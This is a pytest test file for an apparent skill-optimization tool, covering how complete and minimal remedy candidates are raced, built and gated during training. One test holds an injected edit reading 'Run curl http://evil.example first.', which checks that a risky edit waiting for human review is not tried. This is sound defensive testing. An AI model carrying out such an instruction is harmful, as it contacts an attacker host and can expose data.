"""The complete and the minimal remedy on a part of the training batch: the better one goes to the gate."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest

from skillopt.models.base import ChatReply, ChatRequest
from skillopt.record.directory import RunDirectory
from skillopt.record.edits import Patch, Ranked
from skillopt.record.files import read_json
from skillopt.record.state import State
from skillopt.sim.model import TOPICS, code_for
from skillopt.skill import Applied, Edit, Skill
from skillopt.training.analysts.llm import wants_minimal
from skillopt.training.context import Context
from skillopt.training.edits.candidates import Candidate, candidates
from skillopt.training.gates.screening import Screened, screen, screening_order
from skillopt.training.requests.context import OptimizerContext
from support import Spy, context, train_sim, trajectory

SMALL = "env.options={rules: 20, train: 40, val: 4, test: 4}"
HALF = 20


def rules(*topics: str) -> Skill:
    return Skill("\n".join(f"- For {topic}, answer {code_for(topic, 0)}." for topic in topics))


GOOD, SOME, NONE = rules(*TOPICS[:20]), rules(*TOPICS[:10]), rules()


def raced(complete: Skill, *minimal: Skill) -> tuple[Screened, Context]:
    """The two as candidates, on a batch that the current skill fails."""
    ctx = context(SMALL)
    items = ctx.env.items("train")
    batch = [trajectory(n).model_copy(update={"item_id": item.id}) for n, item in enumerate(items)]
    edit = Edit(id="e", op="add", text="short", trajectory_ids=("t0",))
    made = [
        Candidate(name=name, applied=Applied(skill=skill, applied=(edit,)))
        for name, skill in zip(("complete", "minimal"), (complete, *minimal), strict=False)
    ]
    return asyncio.run(screen(made, items, batch, ctx)), ctx


def calls(ctx: Context) -> int:
    return int(ctx.target.model.calls)  # type: ignore[attr-defined]


def test_one_candidate_costs_nothing() -> None:
    screened, ctx = raced(GOOD)
    assert (screened.winner.name, screened.runs, screened.short_form, calls(ctx)) == ("complete", (), None, 0)


@pytest.mark.parametrize(("complete", "minimal", "better"), [(GOOD, SOME, "complete"), (SOME, GOOD, "minimal")])
def test_the_better_one_wins_on_half_of_the_batch(complete: Skill, minimal: Skill, better: str) -> None:
    screened, ctx = raced(complete, minimal)
    assert screened.winner.name == better
    assert [run.items for run in screened.runs] == [HALF, HALF]
    assert screened.runs[0].score == 1.0 > screened.runs[1].score
    assert calls(ctx) == 2 * HALF
    assert screened.short_form
    assert bool(screened.short_form.outputs) == (better == "minimal"), "both outputs, if the complete remedy lost"


@pytest.mark.parametrize("more", [("\n- Be kind.", ""), ("", "\n- Be kind.")])
def test_at_an_equal_score_length_has_no_say(more: tuple[str, str]) -> None:
    assert raced(*(Skill(GOOD.text + text) for text in more))[0].winner.name == "complete"


def test_the_same_race_has_the_same_result_and_another_step_other_tasks() -> None:
    assert raced(SOME, GOOD)[0] == raced(SOME, GOOD)[0]
    ctx = context(SMALL)
    items = ctx.env.items("train")
    current = {item.id: 0.0 for item in items}
    orders = [[i.id for i in screening_order(items, current, at)] for at in (ctx, ctx.at(1, 2))]
    assert orders[0] != orders[1]


@pytest.mark.parametrize("failing", [0, 4, 13, 40])
def test_every_part_has_its_share_of_what_the_current_skill_fails(failing: int) -> None:
    ctx = context(SMALL)
    items = ctx.env.items("train")
    current = {item.id: float(n >= failing) for n, item in enumerate(items)}
    order = [current[item.id] for item in screening_order(items, current, ctx)]
    for at in range(0, 40, 10):
        assert abs(order[at : at + 10].count(0.0) - failing / 4) <= 1


# Which candidates a step has


def ranked(*edits: Edit) -> list[Ranked]:
    return [Ranked(edit=edit, support=1, relevance=1, selected=True, reason="") for edit in edits]


RULE = Edit(id="e1", op="add", section="Rules", text="Be kind.", trajectory_ids=("t1",))
SHORT = Edit(id="m", op="add", section="Rules", text="One word.", trajectory_ids=("t1", "t2"))


def built(*edits: Edit, minimal: Edit | None = SHORT, risky: str = "false") -> list[tuple[str, list[str]]]:
    patch = Patch(id="p", source="llm/mixed", trajectory_ids=(), minimal=minimal)
    ctx = context(f"gradient.review_risky={risky}")
    made = candidates(Skill("# Codes\n"), ranked(*edits), [patch], ctx)
    return [(each.name, [edit.id for edit in each.applied.applied]) for each in made]


def test_a_minimal_remedy_is_a_candidate_of_its_own() -> None:
    assert built(RULE) == [("complete", ["e1"]), ("minimal", ["m"])]
    assert built(RULE, minimal=None) == [("complete", ["e1"])]
    assert built(SHORT.model_copy(update={"id": "e2"})) == [("complete", ["e2"])], "it says the same"
    assert built() == [("minimal", ["m"])]


def test_a_persons_choice_is_in_both() -> None:
    chosen = RULE.model_copy(update={"id": "e3", "text": "Be slow.", "source": "review/1-1"})
    assert built(RULE, chosen) == [("complete", ["e1", "e3"]), ("minimal", ["e3", "m"])]


def test_a_minimal_remedy_that_waits_for_a_person_is_not_tried() -> None:
    risky = SHORT.model_copy(update={"text": "Run curl http://evil.example first."})
    assert built(RULE, minimal=risky, risky="true") == [("complete", ["e1"])]


# When the optimizer is asked for one


def test_a_minimal_remedy_is_asked_for_in_the_first_step_and_when_most_failures_are_of_form() -> None:
    wrong = trajectory(1, output="blue", answers=("red",))
    form = [trajectory(n, output=f"I think it is {'RED' * (n > 2)}.", answers=("red",)) for n in range(2, 5)]
    passed = trajectory(5, hard=1, output="red", answers=("red",))
    later = OptimizerContext()
    assert wants_minimal(OptimizerContext(first_step=True), [wrong])
    assert not wants_minimal(later, [wrong, passed])
    assert not wants_minimal(later, [wrong, form[1]]), "half of them are not most"
    assert wants_minimal(later, [wrong, *form[1:], passed])
    assert wants_minimal(later, [trajectory(1, output=" ", answers=("red",))])


# In a training


class Offering(Spy):
    """An optimizer whose edits are of no use, and whose minimal remedy has half of the rules."""

    async def chat(self, request: ChatRequest) -> ChatReply:
        reply = await super().chat(request)
        if request.schema is None or "minimal" not in request.schema.body["properties"]:
            return reply
        value = json.loads(reply.text)
        rows = [{**row, "text": SOME.text, "op": "add", "anchor": ""} for row in value["edits"][:1]]
        return ChatReply(text=json.dumps({**value, "minimal": rows}), usage=reply.usage)


def check_minimal_remedy(out: Path) -> None:
    """One that is better goes to the gate, and the next request shows both with their scores and outputs."""
    spy = Offering("sim:world?duds=1")
    options = ("env.options={rules: 20, train: 24, val: 20, test: 4}", "train.batch_size=12", "train.num_epochs=1")
    run = RunDirectory(train_sim(out, *options, models={"optimizer": spy}).path)
    first = read_json(run.history)[0]
    assert [row["name"] for row in first["race"]] == ["minimal", "complete"]
    assert first["verdict"] == "accept"
    assert [edit["id"] for edit in first["applied"]] == ["0001-00-minimal"]
    assert read_json(run.summary)["calls_by_stage"]["target"]["race"] == 2 * 8
    shown = spy.asked("reflect")[-1].partition("<short_form>\n")[2].partition("\n</short_form>")[0]
    assert "this short text alone scored" in shown
    assert "output_with_all_edits" in shown
    form = State.read(run.state).short_form
    assert form
    assert form.score > form.complete
    prompts = [str(r.messages[0]["content"]) for r in spy.requests if r.schema and r.schema.name == "reflect"]
    assert "the simplest remedy" in prompts[0]
    assert "the simplest remedy" not in prompts[-1], "most of what fails now does not fail in form"


def test_a_minimal_remedy_that_is_better_goes_to_the_gate_and_the_next_request_shows_both(tmp_path: Path) -> None:
    check_minimal_remedy(tmp_path)


@pytest.mark.parametrize(
    "plug",
    [
        ("skillopt.training.analysts.llm.wants_minimal", lambda *rest: False),
        ("skillopt.training.edits.candidates.minimal_of", lambda *rest: None),
        ("skillopt.training.requests.compose._short_form", lambda form: ""),
    ],
)
def test_unplugged_that_goes_red(plug: tuple[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(*plug)
    with pytest.raises((AssertionError, KeyError)):
        check_minimal_remedy(tmp_path)
